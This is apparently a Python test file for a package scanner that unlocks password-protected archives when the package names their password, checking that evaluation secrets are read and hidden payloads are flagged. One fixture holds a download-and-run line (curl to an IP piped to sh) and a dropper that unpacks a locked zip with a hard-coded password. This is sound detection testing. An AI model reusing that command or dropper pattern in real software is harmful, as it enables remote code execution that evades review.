"""An archive inside a package, locked with a password the package itself names, is read.

An evaluation suite locks its answers in ``secrets.zip`` and says how to open it in its README;
a dropper locks its payload and unpacks it with the password in its code. Either way the key
is in the package, so what the archive holds is reviewed like any other file; an archive whose
password the package does not name stays "not read" (high). Nothing here is ever run.
"""

from __future__ import annotations

from app.core.archive import open_artifact
from app.core.archive.passwords import MAX_CANDIDATES, harvest
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import make_wheel, raw_zip

SETUP_SH = b"#!/bin/sh\necho 'configuring the task'\nmkdir -p /tmp/task\n"
PAYLOAD = b"import os\nos.system('curl http://192.0.2.44/x.sh | sh')\n"


def _locked(password: bytes, name: bytes = b"secrets/setup.sh", data: bytes = SETUP_SH):
    return raw_zip([{"name": name, "data": data, "password": password}])


def _unread(result) -> list:
    return [f for f in result.findings if f.capability == "scan.unread"]


def test_a_secrets_zip_opened_with_the_password_its_readme_names_is_read(tmp_path):
    files = {
        "evals/task/README.md": b"Run `python setup.py --password open-sesame-7` first.\n",
        "evals/task/secrets.zip": _locked(b"open-sesame-7"),
    }
    art = open_artifact(make_wheel(tmp_path, name="evals", files=files))
    paths = {m.path for m in art.members}
    assert "evals/task/secrets.zip!/secrets/setup.sh" in paths
    assert "password-from-package" in art.flags
    result = scan_artifact(art)
    assert not _unread(result)
    assert result.risk.level not in ("high", "critical")


def test_a_payload_locked_with_the_password_in_the_code_is_found(tmp_path):
    init = (
        b"import zipfile\n\n\ndef unpack(where):\n"
        b"    zipfile.ZipFile(where + '/blob.zip').extractall(where, pwd=b'k3y-9000')\n"
    )
    files = {
        "kit/__init__.py": init,
        "kit/blob.zip": _locked(b"k3y-9000", b"payload.py", PAYLOAD),
    }
    result = scan_artifact(open_artifact(make_wheel(tmp_path, name="kit", files=files)))
    hits = [f for f in result.findings if f.capability == "process.shell_download"]
    assert hits and hits[0].path == "kit/blob.zip!/payload.py"
    assert result.risk.level in ("high", "critical")


def test_an_archive_whose_password_the_package_does_not_name_stays_unread_high(tmp_path):
    unpack = (
        b"import sys, zipfile\n\n\ndef main():\n"
        b"    with zipfile.ZipFile('secrets.zip') as zf:\n"
        b"        zf.setpassword(sys.argv[1].encode())\n        zf.extractall()\n"
    )
    files = {
        "evals/task/README.md": b"Ask the maintainers for the password.\n",
        "evals/task/setup.py": unpack,
        "evals/task/secrets.zip": _locked(b"never-written-down"),
    }
    art = open_artifact(make_wheel(tmp_path, name="evals", files=files))
    assert "password-from-package" not in art.flags
    result = scan_artifact(art)
    assert any(f.severity == "high" for f in _unread(result))
    assert result.risk.level in ("high", "critical")


def test_candidates_are_few_named_and_never_the_datasets_own():
    texts = [
        "unzip -P 'pw-one' a.zip\n7z x -ppw-two b.7z\nzf.setpassword(b'pw-three')\n",
        'PASSWORD = "infected"\n' + "".join(f"--password word{i}\n" for i in range(20)),
    ]
    found = harvest(texts, exclude=b"infected")
    assert found[:3] == (b"pw-one", b"pw-two", b"pw-three")
    assert b"infected" not in found
    assert len(found) == MAX_CANDIDATES


def test_a_second_reading_that_fails_keeps_the_first(tmp_path):
    """Whatever an unlocked archive holds (a bomb past a limit, bytes a reader chokes on), the
    scan keeps what it read without the key: locked entries stay unread, nothing is lost."""
    from app.core.archive import ArchiveError
    from app.core.archive.passwords import with_package_passwords

    files = {  # the README names a key, but not the one that opens the archive
        "evals/task/README.md": b"Run `python setup.py --password wrong-key-1` first.\n",
        "evals/task/secrets.zip": _locked(b"open-sesame-7"),
    }
    first = open_artifact(make_wheel(tmp_path, name="evals", files=files))
    assert first.skips and "password-from-package" not in first.flags

    def reopen():
        raise ArchiveError("more than 10000 members (archive bomb?)")

    assert with_package_passwords(first, reopen, b"infected") is first
